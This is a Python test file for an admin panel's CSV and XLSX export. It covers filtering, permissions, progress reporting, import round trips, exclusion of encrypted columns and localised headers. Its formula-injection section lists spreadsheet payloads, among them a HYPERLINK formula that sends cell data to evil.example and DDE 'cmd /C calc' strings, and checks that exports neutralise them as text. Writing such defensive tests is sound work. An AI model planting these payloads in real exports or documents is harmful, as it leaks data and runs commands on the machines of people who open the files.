"""Export of a filtered view: the same rows the list shows, in the list's order, raw values, scope applied
(generic views on the fixture panel, ``tests/kitpanel``; secrets and formats on the built-in resources)."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from app.core import crud, exporter
from app.core.errors import PermissionDenied
from app.core.query import ListParams
from app.core.registry import resource
from tests.kitpanel.models import Item

pytestmark = pytest.mark.usefixtures("kitpanel")


@pytest.fixture()
def items(db, users, kit_data):
    for i in range(30):
        crud.create_record(db, resource("kitpanel.items"), users["admin"], {"name": f"Экспорт {i:02d}", "price_rub": f"{100 + i}.50", "vendor": "Альфа" if i % 2 else "Бета"})
    return resource("kitpanel.items")


def test_csv_export_of_a_filtered_sorted_view(db, users, items, tmp_path):
    params = ListParams(filters={"vendor": "Альфа"}, search="Экспорт", sort="-price_rub")
    path = tmp_path / "p.csv"
    seen = []
    n = exporter.export(db, items(), users["user"], params, path, "csv", progress=seen.append)
    rows = list(csv.reader(open(path, encoding="utf-8-sig")))
    assert n == 15 and len(rows) == 16 and seen[-1] == 15
    header = rows[0]
    assert header[:2] == ["Название", "Остаток"]
    names = [r[0] for r in rows[1:]]
    assert names == [f"Экспорт {i:02d}" for i in range(29, 0, -2)]
    price = rows[1][header.index("Цена, ₽")]
    assert price == "129.50"  # raw, machine-readable


def test_xlsx_export_matches(db, users, items, tmp_path):
    path = tmp_path / "p.xlsx"
    n = exporter.export(db, items(), users["manager"], ListParams(search="Экспорт 0"), path, "xlsx")
    ws = load_workbook(path, read_only=True).active
    values = list(ws.values)
    assert n == 10 and len(values) == 11
    assert values[1][0] == "Экспорт 00"


def test_export_checks_permission(db, users, tmp_path):
    with pytest.raises(PermissionDenied):
        exporter.export(db, resource("admin.users")(), users["user"], ListParams(), tmp_path / "u.csv")


def test_export_never_writes_password_hashes(db, users, tmp_path):
    path = tmp_path / "u.csv"
    exporter.export(db, resource("admin.users")(), users["admin"], ListParams(), path)
    text = path.read_text(encoding="utf-8-sig")
    assert "argon2" not in text and "hashed_password" not in text


def test_copy_and_python_paths_write_the_same_values(db, users, items, tmp_path, monkeypatch):
    """CSV of plain columns is written by PostgreSQL (COPY); it must say what the Python path says
    (dates: ISO with a space instead of a "T"), and the import must read it back unchanged."""
    params = ListParams(sort="name")
    fast, slow = tmp_path / "fast.csv", tmp_path / "slow.csv"
    assert exporter.copy_select(items(), users["admin"], params) is not None
    exporter.export(db, items(), users["admin"], params, fast, "csv")
    monkeypatch.setattr(exporter, "copy_select", lambda *a: None)
    exporter.export(db, items(), users["admin"], params, slow, "csv")
    a = list(csv.reader(open(fast, encoding="utf-8-sig")))
    b = list(csv.reader(open(slow, encoding="utf-8-sig")))
    assert a[0] == b[0] and len(a) == len(b) == 33

    def norm(v: str) -> str:
        import datetime as dt

        if len(v) >= 19 and v[4] == "-" and v[10] in "T ":
            return dt.datetime.fromisoformat(v).isoformat()
        return {"True": "true", "False": "false"}.get(v, v)

    assert [[norm(v) for v in r] for r in a[1:]] == [[norm(v) for v in r] for r in b[1:]]
    # round trip: importing the export by name changes nothing
    from app.core import importer

    monkeypatch.undo()
    mapping = importer.auto_map(items(), a[0])
    result = importer.run_import(db, items(), users["admin"], fast, mapping, key="name")
    assert (result.created, result.failed) == (0, 0), result


def test_copy_export_reports_progress_once_per_batch(db, users, items, tmp_path, monkeypatch):
    """Not on every row after the first batch: a million-row export called it a million times."""
    monkeypatch.setattr(exporter, "BATCH", 10)
    seen: list[int] = []
    params = ListParams(sort="name")
    assert exporter.copy_select(items(), users["admin"], params) is not None
    n = exporter.export(db, items(), users["admin"], params, tmp_path / "p.csv", "csv", progress=seen.append)
    assert n == 32  # 30 made here, 2 by kit_data
    assert seen == [10, 20, 30, 32], seen


def test_xlsx_beyond_excels_row_limit_is_refused_with_a_message(db, users, items, tmp_path, monkeypatch):
    from app.core.errors import ValidationFailed

    monkeypatch.setattr(exporter, "XLSX_MAX_ROWS", 5)
    with pytest.raises(ValidationFailed) as exc:  # the estimate said less: caught while writing
        exporter.export(db, items(), users["admin"], ListParams(), tmp_path / "p.xlsx", "xlsx")
    assert "CSV" in exc.value.messages("ru")[""]
    monkeypatch.setattr(exporter, "XLSX_MAX_ROWS", 0)
    with pytest.raises(ValidationFailed):  # before any work, from the planner's estimate
        exporter.check_xlsx_size(db, items(), users["admin"], ListParams())
    monkeypatch.setattr(exporter, "XLSX_MAX_ROWS", 1_048_575)
    exporter.check_xlsx_size(db, items(), users["admin"], ListParams())  # a normal view passes


# --------------------------------------------------------------------------- formula injection
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+9)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+2", "=1+2;=3+4"]


def _cells(path) -> list[str]:
    if path.suffix == ".xlsx":
        ws = load_workbook(path).active
        cells = [c for row in ws.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no live formula at all
        return [c.value for c in cells if isinstance(c.value, str)]
    return [v for row in csv.reader(open(path, encoding="utf-8-sig")) for v in row]


@pytest.mark.parametrize("path_kind", ["copy", "python", "xlsx"])
def test_formulas_typed_into_records_are_exported_as_text_and_import_back(db, users, tmp_path, monkeypatch, path_kind):
    """An item named like a formula leaves as text on every path (COPY, Python CSV, XLSX), and
    the kit's import of that file changes nothing: a neutralised cell reads back as the original."""
    from app.core import importer, safe_cells

    res = resource("kitpanel.items")
    for i, name in enumerate(FORMULAS):
        crud.create_record(db, res, users["admin"], {"name": name, "price_rub": "10", "vendor": f"-{i}+cmd"})
    if path_kind == "python":
        monkeypatch.setattr(exporter, "copy_select", lambda *a, **k: None)
    elif path_kind == "copy":
        assert exporter.copy_select(res(), users["admin"], ListParams()) is not None
    path = tmp_path / ("p.xlsx" if path_kind == "xlsx" else "p.csv")
    exporter.export(db, res(), users["admin"], ListParams(sort="name"), path, "xlsx" if path_kind == "xlsx" else "csv")
    cells = _cells(path)
    assert not [c for c in cells if c and safe_cells.needs_quote(c) and not c.startswith("'")], cells
    stored = sorted(db.exec(select(Item.name)).all())  # (the form trims the leading tab)
    for name in stored:
        assert safe_cells.neutralise(name) in cells, name
    monkeypatch.undo()
    header = importer.read_head(path)[0]
    result = importer.run_import(db, res(), users["admin"], path, importer.auto_map(res(), header), key="name")
    assert (result.created, result.updated, result.failed) == (0, 6, 0), result
    assert sorted(db.exec(select(Item.name)).all()) == stored
    assert sorted(db.exec(select(Item.vendor)).all()) == sorted(f"-{i}+cmd" for i in range(6))


# --------------------------------------------------------------------------- secrets
def test_encrypted_columns_are_never_exported_by_type(db, users, tmp_path):
    """By the column's type, whatever its name: the SFTP private key (XLSX used to hold it in
    plain text, CSV its ciphertext) and users' Telegram chat ids."""
    from sqlalchemy import text

    from app.core.crypto import is_secret_column
    from models.numbers import SftpHost

    key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----"
    db.add(SftpHost(name="partner", host="127.0.0.1", port=22, username="demo", password="pw-plain-123", private_key=key))
    from models.core import User

    manager = db.get(User, users["manager"].id)
    manager.telegram_chat_id = "987654321"
    db.add(manager)
    db.commit()
    stored = db.exec(text("SELECT private_key FROM sftp_host")).one()[0]
    chat_cipher = db.exec(text("SELECT telegram_chat_id FROM \"user\" WHERE username = 'manager'")).one()[0]
    assert stored.startswith("gAAAA")
    for key_name, secrets in (("numbers.sftp", ["b3BlbnNzaC1rZXktdjEAAAAA", "pw-plain-123", stored]),
                              ("admin.users", ["987654321", chat_cipher])):
        res = resource(key_name)
        assert all(not is_secret_column(res.model.__table__.columns[n]) for n, _l, _s in exporter.export_columns(res()))
        for fmt in ("csv", "xlsx"):
            path = tmp_path / f"{res.slug}.{fmt}"
            exporter.export(db, res(), users["admin"], ListParams(), path, fmt)
            body = "\n".join(str(c) for c in _cells(path))
            assert not [s for s in secrets if s in body], (key_name, fmt)


# --------------------------------------------------------------------------- formatting for people
def test_headers_labels_and_times_are_for_the_reader(db, users, tmp_path, monkeypatch):
    """Headers in the user's language, choices as labels, local times to the second — on the
    COPY path and the Python path alike; shares as the locale writes them."""
    import datetime as dt

    from app.core.display import TIMEZONE
    from models.jobs import JobRun, JobStatus

    # COPY path (numbers.statuses: a choices column, plain columns only)
    statuses = resource("numbers.statuses")
    assert exporter.copy_select(statuses(), users["admin"], ListParams()) is not None
    for lang, header, label in (("en", "Name", "Success"), ("ru", "Название", "Успех")):
        path = tmp_path / f"s-{lang}.csv"
        exporter.export(db, statuses(), users["admin"], ListParams(sort="name"), path, "csv", lang=lang)
        rows = list(csv.reader(open(path, encoding="utf-8-sig")))
        assert rows[0][0] == header
        success = next(r for r in rows[1:] if r[rows[0].index("Code" if lang == "en" else "Код")] == "success")
        assert label in success, success
    # Python path: a job run with a share, a status and a time with microseconds
    when = dt.datetime(2026, 3, 1, 11, 5, 9, 123456, tzinfo=dt.timezone.utc)
    db.add(JobRun(kind="kit.export", status=JobStatus.running, progress=0.455, user_id=users["admin"].id, username="admin", created_at=when))
    db.commit()
    jobs_res = resource("admin.jobs")
    for lang, share, status in (("ru", "45,5\u00a0%", "Выполняется"), ("en", "45.5%", "Running")):
        path = tmp_path / f"j-{lang}.csv"
        exporter.export(db, jobs_res(), users["admin"], ListParams(), path, "csv", lang=lang)
        rows = list(csv.reader(open(path, encoding="utf-8-sig")))
        assert share in rows[1] and status in rows[1], rows
        local = when.astimezone(TIMEZONE).strftime("%Y-%m-%d %H:%M:%S")
        assert local in rows[1] and not [v for v in rows[1] if ".123456" in v or "+00:00" in v]
    # XLSX: a real time (local, whole seconds) and a percentage-formatted number
    path = tmp_path / "j.xlsx"
    exporter.export(db, jobs_res(), users["admin"], ListParams(), path, "xlsx", lang="en")
    ws = load_workbook(path).active
    header = [c.value for c in ws[1]]
    row = [c for c in ws[2]]
    assert row[header.index("Progress")].value == pytest.approx(0.455) and "%" in row[header.index("Progress")].number_format
    assert row[header.index("Created")].value == when.astimezone(TIMEZONE).replace(tzinfo=None, microsecond=0)


def test_an_exported_choice_label_imports_back_as_its_code(db, users, tmp_path):
    """Statuses export their kind as the label the list shows ("Success"/"Успех"); the import
    maps labels (either language) back to the code."""
    from app.core import importer

    res = resource("numbers.statuses")
    path = tmp_path / "s.csv"
    exporter.export(db, res(), users["admin"], ListParams(sort="name"), path, "csv", lang="en")
    header = importer.read_head(path)[0]
    result = importer.run_import(db, res(), users["admin"], path, importer.auto_map(res(), header), key="code")
    assert (result.created, result.failed) == (0, 0), result
    from models.numbers import NumberStatus, StatusKind

    assert {s.code: s.kind for s in db.exec(select(NumberStatus)).all()}["success"] == StatusKind.success
